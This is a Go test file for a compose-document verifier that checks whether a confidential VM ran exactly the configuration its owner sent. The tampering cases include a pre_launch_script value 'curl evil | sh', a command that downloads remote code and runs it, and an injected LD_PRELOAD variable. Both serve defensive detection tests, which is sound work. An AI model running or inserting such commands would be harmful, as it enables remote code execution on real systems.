package compose_test

import (
	"encoding/json"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/phala-go/phala/compose"
)

// document is a document as a map, changed as the test needs it.
func document(t testing.TB, base string, change map[string]any) []byte {
	t.Helper()
	var doc map[string]any
	require.NoError(t, json.Unmarshal([]byte(base), &doc))
	for name, value := range change {
		if value == absent {
			delete(doc, name)
			continue
		}
		doc[name] = value
	}
	text, err := json.Marshal(doc)
	require.NoError(t, err)
	return text
}

type absence struct{}

var absent = absence{}

const (
	sentDocument = `{"name":"","docker_compose_file":"services: {web: {image: nginx}}","allowed_envs":["A"],"public_logs":false}`
	ranDocument  = `{"manifest_version":2,"name":"","runner":"docker-compose","docker_compose_file":"services: {web: {image: nginx}}",` +
		`"allowed_envs":["A"],"features":["kms","tproxy-net"],"kms_enabled":true,"gateway_enabled":true,"tproxy_enabled":true,` +
		`"local_key_provider_enabled":false,"no_instance_id":false,"public_logs":false,"public_sysinfo":true,"public_tcbinfo":true,` +
		`"secure_time":false,"storage_fs":"zfs"}`
)

func TestCompareCompleted_PlatformDefaults(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ sent, ran map[string]any }{
		"all defaults":         {nil, nil},
		"another layout":       {map[string]any{"storage_fs": "zfs"}, nil},
		"null was sent":        {map[string]any{"storage_fs": nil, "bash_script": nil}, nil},
		"null in both":         {map[string]any{"init_script": nil}, map[string]any{"init_script": nil}},
		"null defaults":        {nil, map[string]any{"bash_script": nil, "default_gateway_domain": nil, "init_script": nil, "salt": nil}},
		"unknown member kept":  {map[string]any{"x": map[string]any{"b": 1, "a": []any{nil}}}, map[string]any{"x": map[string]any{"a": []any{nil}, "b": 1}}},
		"no gateway":           {map[string]any{"gateway_enabled": false}, map[string]any{"gateway_enabled": false, "tproxy_enabled": false, "features": absent}},
		"fewer defaults added": {nil, map[string]any{"storage_fs": absent, "features": absent}},
	} {
		c, err := compose.CompareCompleted(document(t, sentDocument, tt.sent), document(t, ranDocument, tt.ran))
		require.NoError(t, err, name)
		assert.Nil(t, c.PreLaunch, name)
	}
	c, err := compose.CompareCompleted([]byte(sentDocument), []byte(ranDocument))
	require.NoError(t, err)
	assert.Equal(t, []string{"features", "gateway_enabled", "kms_enabled", "local_key_provider_enabled", "manifest_version", "no_instance_id",
		"public_sysinfo", "public_tcbinfo", "runner", "secure_time", "storage_fs", "tproxy_enabled"}, c.Added)
}

func TestCompareCompleted_Refuses(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("x", 5000)
	for name, tt := range map[string]struct {
		sent, ran map[string]any
		path      string
		shown     []string // in the error
	}{
		"changed text":            {nil, map[string]any{"docker_compose_file": "services: {web: {image: evil}}"}, "$.docker_compose_file", []string{"nginx", "evil"}},
		"changed flag":            {nil, map[string]any{"public_logs": true}, "$.public_logs", []string{`"false"`, `"true"`}},
		"missing member":          {nil, map[string]any{"allowed_envs": absent}, "$.allowed_envs", []string{"A", "ran nothing"}},
		"more variables":          {nil, map[string]any{"allowed_envs": []string{"A", "LD_PRELOAD"}}, "$.allowed_envs[1]", []string{"LD_PRELOAD", "sent nothing"}},
		"order of variables":      {map[string]any{"allowed_envs": []string{"A", "B"}}, map[string]any{"allowed_envs": []string{"B", "A"}}, "$.allowed_envs[0]", nil},
		"null for a value":        {nil, map[string]any{"public_logs": nil}, "$.public_logs", []string{"null"}},
		"other default":           {nil, map[string]any{"storage_fs": "ext4"}, "$.storage_fs", []string{"ext4", "zfs"}},
		"default of another type": {nil, map[string]any{"manifest_version": "2"}, "$.manifest_version", nil},
		"text for null":           {map[string]any{"storage_fs": nil}, map[string]any{"storage_fs": "ext4"}, "$.storage_fs", nil},
		"added script":            {nil, map[string]any{"pre_launch_script": "curl evil | sh"}, "$.pre_launch_script", []string{"54779f601e7b13ff"}},
		"added script null":       {nil, map[string]any{"pre_launch_script": nil}, "$.pre_launch_script", nil},
		"added init script":       {nil, map[string]any{"init_script": "evil"}, "$.init_script", []string{"evil"}},
		"added unknown member":    {nil, map[string]any{"x": 1}, "$.x", nil},
		"other case":              {nil, map[string]any{"Public_Logs": true}, "$.Public_Logs", nil},
		"emptied script":          {map[string]any{"pre_launch_script": ""}, map[string]any{"pre_launch_script": "x"}, "$.pre_launch_script", nil},
		"gateway by another name": {map[string]any{"gateway_enabled": false, "features": []string{}}, map[string]any{"gateway_enabled": false, "features": []string{}}, "$.tproxy_enabled", []string{"false"}},
		"gateway by a feature":    {map[string]any{"tproxy_enabled": false}, map[string]any{"gateway_enabled": false, "tproxy_enabled": false}, "$.features", []string{"tproxy-net"}},
		"nested":                  {map[string]any{"p": map[string]any{"a": []any{map[string]any{"q r": 1}}}}, map[string]any{"p": map[string]any{"a": []any{map[string]any{"q r": 2}}}}, `$.p.a[0]["q r"]`, nil},
		"nested and added":        {map[string]any{"p": map[string]any{}}, map[string]any{"p": map[string]any{"restrict_mode": false}}, "$.p.restrict_mode", nil},
		"long":                    {map[string]any{"pre_launch_script": long + "good"}, map[string]any{"pre_launch_script": long + "evil"}, "$.pre_launch_script", []string{"good", "evil"}},
	} {
		_, err := compose.CompareCompleted(document(t, sentDocument, tt.sent), document(t, ranDocument, tt.ran))
		var differs *compose.CompletionError
		require.ErrorAs(t, err, &differs, name)
		assert.Equal(t, tt.path, differs.Path, name)
		assert.Less(t, len(err.Error()), 1000, name)
		for _, part := range tt.shown {
			assert.Contains(t, err.Error(), part, name)
		}
	}
}

func TestCompareCompleted_DockerConfigIsNotShown(t *testing.T) {
	t.Parallel()
	sent := document(t, sentDocument, map[string]any{"docker_config": map[string]any{"password": "hunter2"}})
	ran := document(t, ranDocument, map[string]any{"docker_config": map[string]any{"password": "hunter3"}})
	for _, other := range [][]byte{ran, []byte(ranDocument)} {
		_, err := compose.CompareCompleted(sent, other)
		require.ErrorContains(t, err, "$.docker_config")
		assert.NotContains(t, err.Error(), "hunter")
	}
	_, err := compose.CompareCompleted([]byte(sentDocument), ran)
	require.ErrorContains(t, err, "$.docker_config")
	assert.NotContains(t, err.Error(), "hunter")
}

func TestCompareCompleted_NeedsCanonicalForms(t *testing.T) {
	t.Parallel()
	_, err := compose.CompareCompleted([]byte(sentDocument), []byte(`{"name":"","name":"x"}`))
	require.ErrorContains(t, err, "document that ran")
	_, err = compose.CompareCompleted([]byte(`[]`), []byte(ranDocument))
	require.ErrorContains(t, err, "document that was sent")
}

func TestPreLaunchScripts(t *testing.T) {
	t.Parallel()
	all := compose.PreLaunchScripts()
	require.NotEmpty(t, all)
	seen := map[string]bool{}
	for _, script := range all {
		require.Len(t, script.SHA256, 64)
		require.False(t, seen[script.SHA256], script.SHA256)
		seen[script.SHA256] = true
		for _, form := range []string{script.SHA256, "0x" + strings.ToUpper(script.SHA256)} {
			found, ok := compose.LookupPreLaunchHash(form)
			require.True(t, ok, form)
			assert.Equal(t, script, found)
		}
	}
	latest := all[len(all)-1]
	assert.Equal(t, "0.0.19", latest.Version)
	_, known := compose.LookupPreLaunch("#!/bin/bash\n")
	assert.False(t, known)
	_, known = compose.LookupPreLaunchHash("")
	assert.False(t, known)
}

func TestEnvFromMap(t *testing.T) {
	t.Parallel()
	values := map[string]string{"B": "2", "A": "1", "_": "0"}
	env := compose.EnvFromMap(values)
	require.True(t, slices.Equal(env, []compose.EnvVar{{"A", "1"}, {"B", "2"}, {"_", "0"}}))
	assert.NotNil(t, compose.EnvFromMap(maps.Clone(map[string]string{})))
}

// Whatever the document is, what the platform makes of it by its own rules follows from it, and one member that is
// changed, added or dropped beyond them does not.
func FuzzCompareCompleted(f *testing.F) {
	f.Add([]byte(sentDocument), "x", `"y"`)
	f.Add([]byte(`{"storage_fs":null,"gateway_enabled":true,"x":{"a":[1]}}`), "public_logs", "false")
	f.Add([]byte(`{"docker_config":{"password":"p"}}`), "docker_config", "{}")
	f.Add([]byte(`{"":"a member without a name"}`), "x", `"a member without a name"`)
	f.Fuzz(func(t *testing.T, sent []byte, name, value string) {
		var want, defaults map[string]json.RawMessage
		clean, err := compose.Canonicalize(sent)
		if err != nil || json.Unmarshal(clean, &want) != nil || json.Unmarshal([]byte(ranDocument), &defaults) != nil {
			return
		}
		delete(defaults, "docker_compose_file")
		defaults["allowed_envs"], defaults["public_logs"] = json.RawMessage("[]"), json.RawMessage("true")
		ran := maps.Clone(defaults)
		for member, raw := range want {
			if string(raw) != "null" {
				ran[member] = raw
			}
		}
		if string(want["gateway_enabled"])+string(want["tproxy_enabled"]) == "" { // which is one thing by two names
			check := func(ran map[string]json.RawMessage) error {
				text, err := json.Marshal(ran)
				if err != nil {
					return err
				}
				_, err = compose.CompareCompleted(sent, text)
				return err
			}
			if err := check(ran); err != nil {
				t.Fatalf("%s: %v", sent, err)
			}
			changed, err := compose.Canonicalize([]byte(`{"v":` + value + `}`))
			if err != nil || string(ran[name]) == string(changed[5:len(changed)-1]) {
				return
			}
			other := maps.Clone(ran)
			other[name] = json.RawMessage(value)
			harmless := string(changed[5:len(changed)-1]) == "null" && slices.Contains([]string{"bash_script", "default_gateway_domain", "init_script", "salt"}, name)
			if _, isSent := want[name]; check(other) == nil && (!harmless || isSent && string(want[name]) != "null") {
				null := string(want[name]) == "null" && string(changed[5:len(changed)-1]) == "null"
				if !null {
					t.Fatalf("%s: %s may become %s", sent, name, value)
				}
			}
		}
	})
}

// attestedDocument returns the app-compose text within the evidence of a real CVM.
func attestedDocument(t *testing.T, name string) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join("..", "..", "shared", "evidence", "cases", name))
	if os.IsNotExist(err) {
		t.Skip("the real evidence is not here")
	}
	require.NoError(t, err)
	var find func(value any) string
	find = func(value any) string {
		switch v := value.(type) {
		case map[string]any:
			for key, inner := range v {
				if text, ok := inner.(string); ok && (key == "app_compose" || key == "compose_file") && strings.HasPrefix(text, "{") {
					return text
				}
				if text := find(inner); text != "" {
					return text
				}
			}
		case []any:
			for _, inner := range v {
				if text := find(inner); text != "" {
					return text
				}
			}
		case string:
			var inner any
			if strings.HasPrefix(v, "{") && json.Unmarshal([]byte(v), &inner) == nil {
				return find(inner)
			}
		}
		return ""
	}
	var all any
	require.NoError(t, json.Unmarshal(data, &all))
	text := find(all)
	require.NotEmpty(t, text)
	return text
}

// What real CVMs ran follows from what their owners can have sent: the members that are theirs, and what the platform
// of that time set otherwise than today.
func TestCompareCompleted_RealDocuments(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct {
		theirs  []string // members that are sent beside docker_compose_file, name and allowed_envs
		version string
	}{
		"private-ml-sdk-sample.json": {[]string{"default_gateway_domain"}, "0.0.8"},
		"solver-alice.json":          {[]string{"default_gateway_domain"}, "0.0.7"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ran := attestedDocument(t, name)
			var members map[string]json.RawMessage
			require.NoError(t, json.Unmarshal([]byte(ran), &members))
			sent := map[string]json.RawMessage{}
			for _, member := range append(tt.theirs, "docker_compose_file", "name", "allowed_envs") {
				sent[member] = members[member]
			}
			text, err := json.Marshal(sent)
			require.NoError(t, err)
			c, err := compose.CompareCompleted(text, []byte(ran))
			require.NoError(t, err)
			require.NotNil(t, c.PreLaunch)
			assert.Equal(t, tt.version, c.PreLaunch.Version)
			assert.Equal(t, compose.PreLaunchAttested, c.PreLaunch.Form)

			_, err = compose.CompareCompleted(text, []byte(strings.Replace(ran, "Cloud Pre-Launch Script", "Cloud Pre-Launch script", 1)))
			require.ErrorContains(t, err, "$.pre_launch_script", "one character of the script")

			for _, member := range tt.theirs {
				delete(sent, member)
			}
			text, err = json.Marshal(sent)
			require.NoError(t, err)
			_, err = compose.CompareCompleted(text, []byte(ran))
			require.ErrorContains(t, err, "$."+tt.theirs[0], "an added member that is no default of today")
		})
	}
}

// The table of known scripts is the one that was collected.
func TestPreLaunchScripts_AreTheCollectedOnes(t *testing.T) {
	t.Parallel()
	table, err := os.ReadFile(filepath.Join("..", "..", "shared", "reference", "prelaunch.tsv"))
	if os.IsNotExist(err) {
		t.Skip("the collected table is not here")
	}
	require.NoError(t, err)
	var want []compose.PreLaunchScript
	for _, line := range strings.Split(strings.TrimSpace(string(table)), "\n")[1:] {
		cells := strings.Split(line, "\t")
		want = append(want, compose.PreLaunchScript{Version: cells[0], SHA256: cells[1], Form: compose.PreLaunchForm(cells[2]), Date: cells[3]})
	}
	assert.Equal(t, want, compose.PreLaunchScripts())
}
